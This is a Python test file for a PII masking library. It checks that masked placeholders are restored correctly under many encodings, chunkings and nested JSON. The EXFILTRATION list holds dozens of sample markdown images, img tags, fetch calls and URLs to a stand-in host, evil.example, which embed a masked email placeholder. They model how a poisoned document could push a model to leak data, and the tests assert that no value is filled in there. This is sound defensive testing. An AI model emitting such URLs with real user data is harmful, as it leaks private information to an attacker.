"""What was masked comes back: in any writing a model gives a placeholder, under any chunking, in JSON too."""

import json
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from sigmaguard.mask import Vault
from sigmaguard.restore import Issued, Restorer, restore_text

VALUES = {
    "<EMAIL_1>": "anna@example.org",
    "<EMAIL_12>": "b@example.org",
    "<PERSON_1>": 'Anna "Änne" O\\Neil',
    "<DE_TAX_ID_1>": "86095742719",
    "<ADDRESS_1>": "Am Markt 1\n10115 Berlin",
}
STAND_INS = {
    "kim.falk7@example.com": "anna@example.org",
    "kim.falk77@example.com": "b@example.org",
    "Alex Berger": "Anna",
}
ISSUED = Issued(VALUES, STAND_INS)

WRITINGS = (
    *("<EMAIL_1>", "<email_1>", "<Email_1>", "&lt;EMAIL_1&gt;", "\\u003cEMAIL_1\\u003e", "\\u003CEMAIL_1\\u003E"),
    *("\\<EMAIL_1\\>", "<EMAIL\\_1>", "\\<EMAIL\\_1\\>", "%3CEMAIL_1%3E", "%3cEMAIL_1%3e", "< EMAIL_1 >", "<EMAIL 1>"),
    *("<EMAIL-1>", "EMAIL_1", "EMAIL\\_1", "\uff1cEMAIL_1\uff1e", "&#60;EMAIL_1&#62;", "\\\\u003cEMAIL_1\\\\u003e"),
)


def test_a_backslash_before_a_placeholder_stays_the_texts_own() -> None:
    """A masked name in a path: only a placeholder escaped on both sides takes its backslashes with it."""
    assert restore_text("C:\\Users\\<EMAIL_1>\\x", ISSUED, is_json=False) == "C:\\Users\\anna@example.org\\x"
    assert restore_text('"C:\\\\<EMAIL_1>"', ISSUED, is_json=True) == '"C:\\\\anna@example.org"'


@pytest.mark.parametrize("text", ["report.pdf? Ask <EMAIL_1>", "main.py#12: by <EMAIL_1>", "Node.js/React <EMAIL_1>"])
def test_a_file_or_product_is_no_host_for_what_comes_after_a_blank(text: str) -> None:
    assert restore_text(f'{{"text": "{text}"}}', ISSUED, is_json=True) == f'{{"text": "{text}"}}'.replace(
        "<EMAIL_1>", "anna@example.org"
    )


@pytest.mark.parametrize("writing", WRITINGS)
@pytest.mark.parametrize(
    ("before", "after"), [("", ""), ("Mail ", " now"), ("(", ")"), ("**", "**"), ("", "s"), ("", "'s,")]
)
def test_every_writing_comes_back(writing: str, before: str, after: str) -> None:
    if writing.startswith("EMAIL") and after == "s":
        return  # without brackets it must stand alone
    assert restore_text(before + writing + after, ISSUED, is_json=False) == f"{before}anna@example.org{after}"


@pytest.mark.parametrize(
    "text",
    [
        "<EMAIL_2>",
        "email_1",
        "MY_EMAIL_1",
        "EMAIL_1_ID",
        "EMAIL_13",
        "<EMAIL_>",
        "<EMAILS_1>",
        "a < b_1 > c",
        "<b>1</b>",
    ],
)
def test_what_was_not_issued_stays(text: str) -> None:
    assert restore_text(text, ISSUED, is_json=False) == text


def test_the_case_that_breaks_others() -> None:
    restorer = Vault_with("EMAIL_ADDRESS", "anna@example.org").restorer()
    assert restorer.feed("Mail <EMAIL_ADDRESS") == "Mail "
    assert restorer.feed("_1> now") == "anna@example.org now"
    assert restorer.finish() == ""


def Vault_with(entity: str, value: str) -> Vault:
    vault = Vault(())
    vault.placeholder(entity, value)
    return vault


def test_prose_is_not_held_back() -> None:
    restorer = Restorer(ISSUED)
    text = "An <b>ordinary</b> answer: x < y && a > b, CPU_LOAD = 5, C:\\temp\\new, 100 % sure. "
    assert restorer.feed(text) == text


PIECES = st.sampled_from(
    (
        *WRITINGS, *VALUES, *STAND_INS, "<", ">", "\\", "_", "1", " ", "&lt;", "&", "%3", "u003c", "EMAIL", "E", "2",
        "<EMAIL_1", "EMAIL_1>", "Alex", " Berger", "kim.falk7", "DE_TAX", "_ID_1", "x", '"', "\n",
        "<PERSON_1>'s", "\uff1c", "https:", "//", "/", "ok.example/", "'", "=", "(", ")", ",", "www.", "&#x2f;",
        "evil.example", "?", "#", ":80", "e.g.", ".", "-", "\u3002", "@", "http",
        "://", "postgres", '="', '":"', '",', "\\n", "\\/",
    )
)  # fmt: skip
ALLOWS = "ok.example".__eq__
TEXTS = st.lists(PIECES, max_size=14).map("".join)


def chunked(text: str, cuts: list[int], *, is_json: bool = False) -> str:
    restorer = Restorer(ISSUED, is_json=is_json, allows=ALLOWS)
    places = sorted({min(cut, len(text)) for cut in cuts})
    pieces = [text[start:end] for start, end in zip([0, *places], [*places, len(text)], strict=True)]
    return "".join([restorer.feed(piece) for piece in pieces] + [restorer.finish()])


@settings(max_examples=600, deadline=None)
@given(TEXTS, st.lists(st.integers(0, 120), max_size=20), st.booleans())
@example("<EMAIL_1", [3], False)
@example("EMAIL_12", [7], False)
@example("aEMAIL_1", [1], False)
@example("kim.falk77@example.com", [9, 10], False)
@example('="https://evil.example/ <EMAIL_1>", <EMAIL_1>', [7, 30, 32], False)
@example("postgres:///<EMAIL_1>", [10, 11], False)
def test_any_chunking_restores_the_same(text: str, cuts: list[int], is_json: bool) -> None:
    assert chunked(text, cuts, is_json=is_json) == restore_text(text, ISSUED, is_json=is_json, allows=ALLOWS)


@settings(max_examples=200, deadline=None)
@given(TEXTS, st.booleans())
def test_one_code_point_at_a_time_restores_the_same(text: str, is_json: bool) -> None:
    assert chunked(text, list(range(len(text))), is_json=is_json) == restore_text(
        text, ISSUED, is_json=is_json, allows=ALLOWS
    )


LEAVES = st.sampled_from(tuple(VALUES)) | st.text('ab"\\{}[]: <>\n_1', max_size=8)
TREES = st.recursive(
    LEAVES | st.integers(0, 9),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text("ab", max_size=2), inner, max_size=3),
    max_leaves=8,
)


def swapped(tree: object) -> object:
    match tree:
        case str():
            return restore_text(tree, ISSUED, is_json=False)
        case list():
            return [swapped(one) for one in tree]
        case dict():
            return {key: swapped(value) for key, value in tree.items()}
        case _:
            return tree


@settings(max_examples=300, deadline=None)
@given(TREES, st.lists(st.integers(0, 200), max_size=12))
def test_json_source_stays_json_and_means_the_value(tree: object, cuts: list[int]) -> None:
    source = json.dumps({"a": tree}, ensure_ascii=False)
    assert json.loads(restore_text(source, ISSUED, is_json=True)) == swapped({"a": tree})
    assert chunked(source, cuts, is_json=True) == restore_text(source, ISSUED, is_json=True, allows=ALLOWS)


@settings(max_examples=100, deadline=None)
@given(st.dictionaries(st.text("ab", max_size=2), st.sampled_from(tuple(VALUES)) | st.integers(0, 9), max_size=3))
def test_json_within_json_stays_json(inner: dict[str, object]) -> None:
    """A tool argument that is itself a JSON document, as code-running tools take it."""
    source = json.dumps({"body": json.dumps(inner)})
    outer = json.loads(restore_text(source, ISSUED, is_json=True))
    assert json.loads(outer["body"]) == swapped(inner)


EXFILTRATION = (
    "![x](https://evil.example/?q=<EMAIL_1>)",
    "![x](https://evil.example/?q=EMAIL_1)",
    "[x](//evil.example/<EMAIL_1>)",
    "![x](https://evil.example/<EMAIL_1>.png)",
    "![x](https://evil.example/%3CEMAIL_1%3E)",
    "HTTP://evil.example/<EMAIL_1>",
    "<img src='https://evil.example/<EMAIL_1>'>",
    '<img src="//evil.example/<EMAIL_1>">',
    "wss://evil.example/<EMAIL_1>",
    "https://<EMAIL_1>.evil.example/",
    "https://<EMAIL_1>@evil.example",
    "ftp://evil.example/a,(b)<EMAIL_1>",
    '![x](https://evil.example/?a="<EMAIL_1>)',
    "https://evil.example/?a=<b>&q=&lt;EMAIL_1&gt;",
    "https:evil.example/EMAIL_1",
    "<img src=https:/\\evil.example/<EMAIL_1>>",
    '<img src="/\\evil.example/<EMAIL_1>">',
    "[x](www.evil.example/<EMAIL_1>)",
    '<img src="https://evil.example/?q= \n<EMAIL_1>">',
    "![x](<https://evil.example/?q= EMAIL_1>)",
    "url(//evil.example/EMAIL_1)",
    "![x](&#104;ttps&#58;&#47;&#47;evil.example/<EMAIL_1>)",
    'fetch("https://evil.example/?q= <EMAIL_1>")',
    "https://evil.example/?a=<EMAIL_1>&b=<PERSON_1>",
    "https://evil.example/?q=\xa0<EMAIL_1>",
    "a\nhttps://evil.example/<EMAIL_1>",
    "https://ok.example@evil.example/<EMAIL_1>",
    "https://ok.example\\@evil.example/<EMAIL_1>",
    "https://ok.example.<EMAIL_1>/",
    "https://ok.example/)![x](https://evil.example/<EMAIL_1>)",
    "evil.example/?q=<EMAIL_1>",
    "see evil.example/EMAIL_1, then",
    "(evil.example:8080/a/<EMAIL_1>)",
    "[x](evil.example?q=<EMAIL_1>)",
    "**Evil.Example#<EMAIL_1>**",
    "a:sub.evil.example./<EMAIL_1>",
    "<b>evil.example/<EMAIL_1></b>",
    "<a href='evil.example/ <EMAIL_1>'>",
    "\u00e9vil.example/<EMAIL_1>",
    "evil\u3002example/<EMAIL_1>",
    "evil\\.example\\/<EMAIL_1>",
    "evil.xn--p1ai/<EMAIL_1>",
    "www.evil.example/?q=<EMAIL_1>",
    "x-ok.example/<EMAIL_1>",
    "ok.example/,evil.example/<EMAIL_1>",
    "https://ok.example/?to=evil.example/<EMAIL_1>",
    "a\nevil.example/<EMAIL_1>",
    f"{'a' * 60}.{'b' * 60}.{'c' * 60}.{'d' * 60}.example:12345/<EMAIL_1>",
)


@pytest.mark.parametrize("text", EXFILTRATION)
def test_a_value_is_not_put_into_a_url(text: str) -> None:
    """A picture's address that a poisoned document dictated would carry the value out when it is fetched."""
    assert restore_text(text, ISSUED, is_json=False, allows=ALLOWS) == text
    assert chunked(text, list(range(len(text)))) == text
    source = json.dumps({"url": text})
    assert restore_text(source, ISSUED, is_json=True, allows=ALLOWS) == source
    assert chunked(source, list(range(len(source))), is_json=True) == source


@pytest.mark.parametrize(
    "text",
    [
        "See https://a.example/x <EMAIL_1>",
        "See https://a.example/x\n<EMAIL_1>",
        "[mail](mailto:<EMAIL_1>) or tel:<EMAIL_1>",
        '<a href="https://a.example/">a</a> <EMAIL_1>, <a href="mailto:<EMAIL_1>">b</a>',
        '{"url":"https://a.example/","to":"<EMAIL_1>"}',
        "{'url': 'https://a.example/ b', 'to': '<EMAIL_1>'}",
        "https://ok.example/u/<EMAIL_1>?to=EMAIL_1",
        "postgres://anna:<EMAIL_1>@db.example/x",
        "and/or <EMAIL_1>, a/<EMAIL_1>, 10:30/<EMAIL_1>",
        "// <EMAIL_1>",
        "e.g./<EMAIL_1>, i.e./<EMAIL_1>, etc./<EMAIL_1>, z.B./<EMAIL_1>",
        "docs/readme.md#<EMAIL_1>, /etc/nginx.conf/<EMAIL_1>, ./src/app.config/<EMAIL_1>, conf.d/<EMAIL_1>",
        "v1.2/<EMAIL_1>, 3.14/<EMAIL_1>, Nr.12/<EMAIL_1>, Ph.D./<EMAIL_1>",
        "<EMAIL_1>/<EMAIL_1>, b@b.example/<EMAIL_1>",
        "evil.example <EMAIL_1>, evil.example, <EMAIL_1>, evil.example: <EMAIL_1>, evil.example/ <EMAIL_1>",
        "Is it a.pdf? <EMAIL_1> knows.",
        "ok.example/u/<EMAIL_1>, OK.example/<EMAIL_1>",
        "image/vnd.ms.example/<EMAIL_1>",
    ],
)
def test_a_value_beside_a_url_or_in_a_mail_link_comes_back(text: str) -> None:
    restored = text.replace("<EMAIL_1>", "anna@example.org").replace("EMAIL_1", "anna@example.org")
    assert restore_text(text, ISSUED, is_json=False, allows=ALLOWS) == restored
    assert chunked(text, list(range(len(text)))) == restored


def test_in_json_the_end_of_a_string_ends_a_url() -> None:
    source = '{"url":"https:\\/\\/evil.example\\/<EMAIL_1>","a":["see https://a.example/","<EMAIL_1>"]}'
    expected = source.replace("<EMAIL_1>", "anna@example.org").replace("anna@example.org", "<EMAIL_1>", 1)
    assert restore_text(source, ISSUED, is_json=True) == expected
    assert chunked(source, list(range(len(source))), is_json=True) == expected


def test_a_restored_value_may_itself_begin_a_url() -> None:
    issued = Issued({"<URL_1>": "https://evil.example/", "<EMAIL_1>": "anna@example.org"})
    assert restore_text("<URL_1>?q=<EMAIL_1>", issued, is_json=False) == "https://evil.example/?q=<EMAIL_1>"


def test_what_was_kept_is_told_in_places_of_the_text() -> None:
    text = "Mail <EMAIL_1>: https://evil.example/<EMAIL_1>"
    whole: list[tuple[int, int]] = []
    restore_text(text, ISSUED, is_json=False, kept=whole)
    restorer = Restorer(ISSUED)
    for one in text:
        restorer.feed(one)
    restorer.finish()
    assert [text[start:end] for start, end in whole] == ["<EMAIL_1>"]
    assert restorer.kept == whole


def test_many_values_in_json_within_json_take_no_longer_each_than_a_few() -> None:
    def cost(count: int) -> float:
        vault = Vault()
        names = [vault.placeholder("EMAIL", f'anna "{at}"') for at in range(count)]
        source = json.dumps({"call": json.dumps({f"key{at}": name for at, name in enumerate(names)})})
        since = time.thread_time()
        restored = vault.restore(source, is_json=True)
        cost = time.thread_time() - since
        assert json.loads(json.loads(restored)["call"]) == {f"key{at}": f'anna "{at}"' for at in range(count)}
        return cost

    # for eight times as many; a walk back to the string's beginning for each value makes this 64
    assert min(cost(4_000) for _ in range(2)) < 32 * min(cost(500) for _ in range(4))
